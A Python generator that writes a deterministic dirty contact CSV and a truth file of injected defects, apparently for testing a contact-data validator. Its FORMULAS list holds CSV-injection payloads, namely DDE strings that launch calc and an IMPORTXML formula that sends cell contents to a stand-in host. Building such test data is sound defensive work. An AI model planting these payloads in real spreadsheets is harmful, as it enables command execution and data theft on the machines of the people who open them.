"""Generate a dirty contact CSV file of any size, with a truth file of its defects.

The output is deterministic for a given ``--rows``/``--seed``/``--delimiter``.
Columns (in this order)::

    C_EmailAddress,C_FirstName,C_LastName,C_Title,C_BusPhone,C_Company,C_Website1

Every row is realistic and valid unless it carries an injected defect. About
``--defect-rate`` (default 5%) of the rows carry exactly one defect, drawn with
equal shares from :data:`DEFECT_KINDS`. Valid rows include things a careless
checker trips over: non-ASCII names, company names with commas and quotes,
titles with a line break inside a quoted field (about 0.2% of rows), phones in
many US and international formats, bare ``www.`` websites and empty optional
cells (title, phone, website).

The truth file is a CSV with one line per defective row::

    line,row,defect,column

``line`` is the physical line where the record starts (the header is line 1 and
newlines inside quoted fields count); ``row`` is the 1-based data row.

Only the standard library is used; ``bench/selfcheck.py`` verifies the output
with the csv module, ``phonenumbers`` and ``email-validator``.
"""

from __future__ import annotations

import argparse
import csv
import random
import sys
import time
import unicodedata
from pathlib import Path

COLUMNS = [
    "C_EmailAddress",
    "C_FirstName",
    "C_LastName",
    "C_Title",
    "C_BusPhone",
    "C_Company",
    "C_Website1",
]
EMAIL, FIRST, LAST, TITLE, PHONE, COMPANY, WEBSITE = range(7)

DEFECT_KINDS = [
    "bad-email",
    "malformed-phone",
    "missing-email",
    "duplicate-email-exact",
    "duplicate-email-case",
    "bad-url",
    "formula",
    "stray-whitespace",
    "mixed-case-email",
]

BLOCK = 50_000

# --------------------------------------------------------------------------- pools

FIRST_NAMES = [
    "James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael", "Linda",
    "David", "Elizabeth", "William", "Barbara", "Richard", "Susan", "Joseph", "Jessica",
    "Thomas", "Sarah", "Christopher", "Karen", "Daniel", "Nancy", "Matthew", "Lisa",
    "Anthony", "Betty", "Mark", "Sandra", "Steven", "Ashley", "Andrew", "Emily",
    "Ann", "Mary-Jane", "Jean-Luc", "José", "Zoë", "Łukasz", "François", "Søren",
    "Björn", "Chloé", "Renée", "Siobhán", "Zoltán", "Małgorzata", "Jürgen", "Ana",
    "Dmitri", "Aiko", "Wei", "Priya", "Thảo", "Minh", "Ngọc", "Ines", "Joaquín",
    "Ólafur", "Þóra", "Ærin", "Çağla", "Gülşen", "Ramón", "Sébastien", "Héloïse",
    "Agnieszka", "Paweł", "Mateus", "João", "Tomás", "Noémi", "Kateřina", "Jiří",
    "Fatima", "Mohammed", "Yusuf", "Hana", "Sven", "Ingrid", "Olga", "Kwame",
    "Chidi", "Ngozi", "Raj", "Anjali", "Hiroshi", "Yuki", "Seo-yeon", "Ji-ho",
    "Mei", "Li", "Liam", "Noah", "Olivia", "Emma", "Ava", "Sophia", "Lucas", "Mia",
]  # fmt: skip

LAST_NAMES = [
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis",
    "Rodriguez", "Martinez", "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson",
    "Thomas", "Taylor", "Moore", "Jackson", "Martin", "Lee", "Perez", "Thompson",
    "White", "Harris", "Sanchez", "Clark", "Ramirez", "Lewis", "Robinson", "Walker",
    "Müller", "O'Brien", "O'Neil", "D'Angelo", "Nguyễn", "Trần", "Phạm", "García",
    "Kowalski", "Łukasiewicz", "Wiśniewski", "Dąbrowski", "Schröder", "Schäfer",
    "Weiß", "Öztürk", "Yılmaz", "Çelik", "Døssing", "Ødegaard", "Jönsson",
    "Åberg", "Núñez", "Peña", "Muñoz", "Lefèvre", "Dubois", "Gauthier", "Côté",
    "Ó Súilleabháin", "MacDonald", "McAllister", "van der Berg", "de la Cruz",
    "St. John", "Smith-Jones", "Dvořák", "Novák", "Horváth", "Kovačević", "Popescu",
    "Ivanov", "Petrov", "Sato", "Suzuki", "Takahashi", "Kim", "Park", "Choi",
    "Wang", "Zhang", "Chen", "Liu", "Patel", "Singh", "Sharma", "Gupta", "Khan",
    "Okafor", "Mensah", "Adeyemi", "Cohen", "Levi", "Rossi", "Russo", "Ferrari",
]  # fmt: skip

TITLES = [
    "Software Engineer", "Senior Software Engineer", "Data Analyst", "Account Executive",
    "Sr. Account Executive", "Marketing Manager", "Director of Marketing", "VP, Sales",
    "VP of Engineering", "Chief Executive Officer", "CEO", "CTO", "CFO", "COO",
    "Head of R&D", "Product Manager", "Office Manager", "HR Business Partner",
    "Customer Success Manager", "Sales Development Rep", "Operations Lead",
    "Director, Operations", "Procurement Specialist", "IT Administrator",
    "Gerente de Ventas", "Directeur Général", "Geschäftsführer", "Responsable Achats",
    'Head of "Special" Projects', "Partner", "Consultant", "Founder & CEO",
    "Co-Founder", "Analyst, Risk & Compliance", "Team Lead (Platform)",
    "Chief of Staff", "Legal Counsel", "Buyer", "Controller", "Administrative Assistant",
]  # fmt: skip

MULTILINE_TITLES = [
    "Vice President\nSales",
    "Director, Operations\nEMEA",
    "Head of Product\n(Interim)",
    "Account Manager\nKey Accounts\nNorth America",
    "Geschäftsführer\nVertrieb",
]

COMPANY_WORDS_A = [
    "Acme", "Globex", "Initech", "Umbrella", "Stark", "Wayne", "Wonka", "Hooli",
    "Vandelay", "Soylent", "Cyberdyne", "Tyrell", "Massive", "Dynamic", "Blue Sky",
    "Northwind", "Contoso", "Fabrikam", "Adventure", "Pied Piper", "Aperture",
    "Black Mesa", "Oceanic", "Sirius", "Gringotts", "Monarch", "Nakatomi", "Oscorp",
    "Gekko", "Virtucon", "Bluth", "Dunder", "Prestige", "Sterling", "Lunar", "Polar",
    "Summit", "Granite", "Cedar", "Harbor",
]  # fmt: skip

COMPANY_WORDS_B = [
    "Systems", "Industries", "Labs", "Logistics", "Foods", "Consulting", "Media",
    "Holdings", "Software", "Analytics", "Energy", "Health", "Robotics", "Capital",
    "Partners", "Networks", "Design", "Trading", "Ventures", "Works", "Solutions",
    "Dynamics", "Outfitters", "Brewing", "Pharma",
]  # fmt: skip

COMPANY_SUFFIXES = [
    "",
    "",
    "",
    " Inc.",
    ", Inc.",
    " LLC",
    " Ltd",
    ", Ltd.",
    " GmbH",
    " S.A.",
    " Group",
]

SPECIAL_COMPANIES = [
    ("Smith, Jones & Co", "smithjones.com"),
    ('The "Best" Co', "thebestco.com"),
    ('"Quoted" Holdings, LLC', "quotedholdings.com"),
    ("Müller & Söhne GmbH", "mueller-soehne.de"),
    ("Société Générale de Café", "sgcafe.fr"),
    ("O'Reilly Media", "oreilly.com"),
    ("Nguyễn Trading Co.", "nguyentrading.vn"),
    ("Łódź Logistics Sp. z o.o.", "lodzlogistics.pl"),
    ("Ben & Jerry's", "benjerry.com"),
    ("AT&T", "att.com"),
    ("3M", "3m.com"),
    ("Procter & Gamble", "pg.com"),
    ("Ford Motor Company", "ford.com"),
    ("Zoë's Kitchen", "zoeskitchen.com"),
    ("Björk Design AB", "bjorkdesign.se"),
]

FREE_MAIL = ["gmail.com", "outlook.com", "yahoo.com", "proton.me", "icloud.com", "gmx.de"]

US_AREA_CODES = [
    "201", "202", "206", "212", "213", "214", "303", "305", "310", "312", "313", "404",
    "415", "469", "503", "512", "602", "612", "617", "646", "650", "702", "713", "718",
    "720", "773", "808", "818", "858", "904", "917", "919", "949", "971",
]  # fmt: skip

# (template, weight); '#' is a random digit, '{a}' an area code, '{x}' an exchange.
US_FORMATS = [
    ("({a}) {x}-####", 6),
    ("{a}-{x}-####", 6),
    ("{a}.{x}.####", 3),
    ("+1 {a} {x} ####", 3),
    ("1-{a}-{x}-####", 2),
    ("{a}{x}####", 3),
    ("+1 ({a}) {x}-####", 1),
    ("{a} {x} ####", 2),
    ("+1-{a}-{x}-####", 1),
]
US_EXTENSIONS = [" x###", " ext. ##", " ext ####", " x#", " ext. ###"]

INTL_FORMATS = [
    "+44 20 7### ####",  # London
    "+44 161 496 ####",  # Manchester
    "+44 7700 9#####",  # UK mobile
    "+49 30 9#####",  # Berlin (short)
    "+49 89 #### ####",  # Munich
    "+33 1 ## ## ## ##",  # Paris
    "+33 6 ## ## ## ##",  # French mobile
    "+81 3-####-####",  # Tokyo
    "+61 2 9### ####",  # Sydney
    "+91 22 2### ####",  # Mumbai
    "+55 11 3###-####",  # São Paulo
    "+34 91# ### ###",  # Madrid
    "+52 55 #### ####",  # Mexico City
    "+86 10 6### ####",  # Beijing
    "+65 6### ####",  # Singapore
    "+353 1 ### ####",  # Dublin
    "+31 20 ### ####",  # Amsterdam
    "+41 44 ### ## ##",  # Zurich
    "+46 8 ### ### ##",  # Stockholm
    "+39 06 #### ####",  # Rome
]

BAD_PHONES = [
    "12345",
    "555-CALL-NOW-NOW-NOW",
    "(999) 12",
    "555-01",
    "call me",
    "TBD",
    "0",
    "+1 415",
    "1234567890123456789",
    "ext. 123",
    "--",
    "phone",
]

BAD_URLS = [
    "ftp://{d}",
    "http://",
    "https://",
    "not a url",
    "http://exa mple.com",
    "http://{s} {d}",
]

FORMULAS = [
    '=HYPERLINK("http://x","click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "+SUM(1,2)",
    "-@A1",
    "@foo",
]

STRAY_WRAPPERS = [
    (" ", ""),
    ("", " "),
    ("  ", "  "),
    ("\u00a0", ""),
    ("", "\u00a0"),
    ("\u200b", ""),
    ("", "\u200b"),
]

_FOLD = str.maketrans(
    {"ł": "l", "Ł": "L", "ø": "o", "Ø": "O", "ß": "ss", "đ": "d", "Đ": "D", "æ": "ae",
     "Æ": "Ae", "œ": "oe", "Œ": "Oe", "ı": "i", "þ": "th", "Þ": "Th", "ð": "d"}
)  # fmt: skip


def slug(name: str) -> str:
    """ASCII, lower-case letters only: 'Łukasz' -> 'lukasz', "O'Brien" -> 'obrien'."""
    folded = unicodedata.normalize("NFKD", name.translate(_FOLD))
    return "".join(ch for ch in folded.lower() if "a" <= ch <= "z")


def _fill(template: str, rng: random.Random) -> str:
    return "".join(str(rng.randrange(10)) if ch == "#" else ch for ch in template)


def _phone_pool(rng: random.Random, size: int) -> list[str]:
    us_templates = [t for t, w in US_FORMATS for _ in range(w)]
    pool = []
    for i in range(size):
        if i % 8 == 7:
            pool.append(_fill(rng.choice(INTL_FORMATS), rng))
            continue
        area = rng.choice(US_AREA_CODES)
        exchange = f"{rng.randrange(2, 10)}{rng.randrange(10)}{rng.randrange(10)}"
        if exchange[1:] == "11":  # N11 codes are service numbers, not exchanges
            exchange = exchange[0] + "23"
        phone = _fill(rng.choice(us_templates).format(a=area, x=exchange), rng)
        if rng.random() < 0.12:
            phone += _fill(rng.choice(US_EXTENSIONS), rng)
        pool.append(phone)
    return pool


def _companies() -> list[tuple[str, str]]:
    companies = list(SPECIAL_COMPANIES)
    for a in COMPANY_WORDS_A:
        for j, b in enumerate(COMPANY_WORDS_B):
            suffix = COMPANY_SUFFIXES[(len(a) + j) % len(COMPANY_SUFFIXES)]
            tld = (".com", ".io", ".net", ".co.uk", ".com", ".org")[(len(a) * 7 + j) % 6]
            companies.append((f"{a} {b}{suffix}", f"{slug(a)}{slug(b)}{tld}"))
    return companies


def _websites(domain: str) -> list[str]:
    return [
        f"https://www.{domain}",
        f"http://www.{domain}",
        f"https://{domain}",
        f"www.{domain}",
        f"https://www.{domain}/contact",
        f"http://{domain}/about-us",
    ]


def _mixed_case(email: str, rng: random.Random) -> str:
    """A different-case spelling of ``email`` (always at least one upper-case letter)."""
    style = rng.randrange(4)
    local, _, domain = email.partition("@")
    if style == 0:
        out = ".".join(p[:1].upper() + p[1:] for p in local.split(".")) + "@" + domain
    elif style == 1:
        head, _, tld = domain.rpartition(".")
        out = f"{local}@{head[:1].upper()}{head[1:]}.{tld.upper()}"
    elif style == 2:
        out = email.upper()
    else:
        out = local[:1].upper() + local[1:] + "@" + domain
    if out == email:  # cannot happen with letter-bearing emails; keep the guarantee anyway
        out = email.upper()
    return out


def _bad_email(email: str, rng: random.Random) -> str:
    local, _, domain = email.partition("@")
    style = rng.randrange(5)
    if style == 0:
        return f"{local}@@{domain}"
    if style == 1:
        return f"{local}.{domain}"
    if style == 2:
        return f"{local}@{domain.split('.')[0]}"
    if style == 3:
        return (local.replace(".", "..", 1) if "." in local else local[:1] + ".." + local[1:]) + (
            "@" + domain
        )
    return f"{local} at {domain}"


# --------------------------------------------------------------------------- generator


def generate(
    rows: int,
    seed: int,
    out: Path,
    truth: Path,
    *,
    delimiter: str = ",",
    defect_rate: float = 0.05,
    multiline_rate: float = 0.002,
) -> dict[str, int]:
    """Write ``rows`` data rows to ``out`` and the defects to ``truth``; return counts."""
    rng = random.Random(seed)
    firsts = [unicodedata.normalize("NFC", n) for n in FIRST_NAMES]
    lasts = [unicodedata.normalize("NFC", n) for n in LAST_NAMES]
    first_slugs = [slug(n) for n in firsts]
    last_slugs = [slug(n) for n in lasts]
    companies = _companies()
    company_names = [unicodedata.normalize("NFC", c) for c, _ in companies]
    company_domains = [d for _, d in companies]
    websites = [_websites(d) for d in company_domains]
    n_web = len(websites[0])
    phones = _phone_pool(random.Random(seed * 7919 + 1), 50_000)

    # Titles: ordinary ones, the multi-line ones (~multiline_rate) and empty (~8%).
    titles = [*TITLES, *MULTILINE_TITLES, ""]
    t_nl = [t.count("\n") for t in titles]
    w_plain = (1 - multiline_rate - 0.08) / len(TITLES)
    t_weights = [w_plain] * len(TITLES) + [multiline_rate / len(MULTILINE_TITLES)] * len(
        MULTILINE_TITLES
    )
    t_weights.append(0.08)
    # Defects: index 0 is "none", then one slot per kind with equal shares.
    d_weights = [1 - defect_rate] + [defect_rate / len(DEFECT_KINDS)] * len(DEFECT_KINDS)

    counts = dict.fromkeys(DEFECT_KINDS, 0)
    counts["multiline"] = 0
    recent: list[str] = []  # emails of defect-free earlier rows, for duplicates
    line = 2
    row_no = 0
    nf, nl, nt, nc = len(firsts), len(lasts), len(titles), len(companies)
    with (
        out.open("w", encoding="utf-8", newline="", buffering=1 << 20) as fh,
        truth.open("w", encoding="utf-8", newline="") as th,
    ):
        writer = csv.writer(fh, delimiter=delimiter, lineterminator="\n")
        twriter = csv.writer(th, lineterminator="\n")
        writer.writerow(COLUMNS)
        twriter.writerow(["line", "row", "defect", "column"])
        while row_no < rows:
            b = min(BLOCK, rows - row_no)
            fi = rng.choices(range(nf), k=b)
            li = rng.choices(range(nl), k=b)
            ti = rng.choices(range(nt), weights=t_weights, k=b)
            ci = rng.choices(range(nc), k=b)
            ph = rng.choices(phones, k=b)
            # website variant; n_web means empty
            wi = rng.choices(range(n_web + 1), weights=[3, 1, 2, 2, 1, 1, 1], k=b)
            pat = rng.choices(range(8), k=b)  # email pattern; 6, 7: free mail
            di = rng.choices(range(len(d_weights)), weights=d_weights, k=b)
            block: list[list[str]] = []
            truth_rows: list[tuple[int, int, str, str]] = []
            for i in range(b):
                row_no += 1
                f, la, t, c = fi[i], li[i], ti[i], ci[i]
                fs, ls = first_slugs[f], last_slugs[la]
                p = pat[i]
                if p < 3:
                    local = f"{fs}.{ls}{row_no}"
                elif p == 3:
                    local = f"{fs[:1]}{ls}{row_no}"
                elif p == 4:
                    local = f"{fs}_{ls}{row_no}"
                elif p == 5:
                    local = f"{ls}.{fs}{row_no}"
                else:
                    local = f"{fs}{ls}{row_no}"
                domain = company_domains[c] if p < 6 else FREE_MAIL[row_no % len(FREE_MAIL)]
                email = f"{local}@{domain}"
                w = wi[i]
                record = [
                    email,
                    firsts[f],
                    lasts[la],
                    titles[t],
                    ph[i] if row_no % 19 else "",  # ~5% empty phones
                    company_names[c],
                    websites[c][w] if w < n_web else "",
                ]
                d = di[i]
                if d:
                    kind = DEFECT_KINDS[d - 1]
                    if kind.startswith("duplicate") and not recent:
                        kind = "mixed-case-email"  # nothing earlier to copy yet
                    column = COLUMNS[EMAIL]
                    if kind == "bad-email":
                        record[EMAIL] = _bad_email(email, rng)
                    elif kind == "malformed-phone":
                        record[PHONE] = rng.choice(BAD_PHONES)
                        column = COLUMNS[PHONE]
                    elif kind == "missing-email":
                        record[EMAIL] = ""
                    elif kind == "duplicate-email-exact":
                        record[EMAIL] = rng.choice(recent)
                    elif kind == "duplicate-email-case":
                        record[EMAIL] = _mixed_case(rng.choice(recent), rng)
                    elif kind == "bad-url":
                        record[WEBSITE] = (
                            rng.choice(BAD_URLS)
                            .replace("{d}", company_domains[c])
                            .replace("{s}", "www")
                        )
                        column = COLUMNS[WEBSITE]
                    elif kind == "formula":
                        k = rng.choice((FIRST, LAST, TITLE, COMPANY))
                        record[k] = rng.choice(FORMULAS)
                        column = COLUMNS[k]
                    elif kind == "stray-whitespace":
                        k = rng.choice((FIRST, LAST, COMPANY))
                        pre, post = rng.choice(STRAY_WRAPPERS)
                        record[k] = f"{pre}{record[k]}{post}"
                        column = COLUMNS[k]
                    else:  # mixed-case-email
                        record[EMAIL] = _mixed_case(email, rng)
                    counts[kind] += 1
                    truth_rows.append((line, row_no, kind, column))
                elif len(recent) < 4096:
                    recent.append(email)
                elif row_no % 17 == 0:
                    recent[row_no % 4096] = email
                block.append(record)
                nl_count = t_nl[t]
                if nl_count and record[TITLE] == titles[t]:
                    counts["multiline"] += 1
                    line += 1 + nl_count
                else:
                    line += 1
            writer.writerows(block)
            twriter.writerows(truth_rows)
    counts["rows"] = rows
    counts["lines"] = line - 1
    return counts


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description="Generate a deterministic dirty contact CSV and its truth file.",
    )
    parser.add_argument("--rows", type=int, required=True, help="number of data rows")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    parser.add_argument("--out", type=Path, required=True, help="CSV file to write")
    parser.add_argument("--truth", type=Path, required=True, help="truth CSV to write")
    parser.add_argument(
        "--delimiter", default=",", help="field delimiter (default ','; 'tab' for a tab)"
    )
    parser.add_argument(
        "--defect-rate", type=float, default=0.05, help="share of rows with a defect (0.05)"
    )
    args = parser.parse_args(argv)
    delimiter = "\t" if args.delimiter in ("tab", "\\t") else args.delimiter
    if len(delimiter) != 1:
        parser.error("--delimiter must be one character")
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.truth.parent.mkdir(parents=True, exist_ok=True)
    start = time.perf_counter()
    counts = generate(
        args.rows,
        args.seed,
        args.out,
        args.truth,
        delimiter=delimiter,
        defect_rate=args.defect_rate,
    )
    elapsed = time.perf_counter() - start
    size_mb = args.out.stat().st_size / 1e6
    defects = sum(counts[k] for k in DEFECT_KINDS)
    print(
        f"wrote {args.rows:,} rows ({counts['lines']:,} lines, {size_mb:.1f} MB) to {args.out} "
        f"in {elapsed:.1f} s; {defects:,} defective rows, "
        f"{counts['multiline']:,} with a line break in a quoted field",
        file=sys.stderr,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
